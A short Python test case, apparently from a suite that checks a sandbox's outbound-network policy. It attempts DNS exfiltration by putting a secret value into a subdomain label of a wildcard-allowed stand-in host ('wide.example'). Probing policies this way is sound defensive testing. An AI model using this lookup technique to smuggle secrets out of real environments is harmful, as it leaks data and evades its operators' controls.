# class: network
# rule: outbound_connectivity
# policy: names.yaml
# open: the policy's author allowed every name below, and a name that is asked for carries its
#   labels. Only a list of names bounds them
# success: a name that carries data is looked up below a wildcard
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo(SECRET + ".a.b.wide.example", 443)
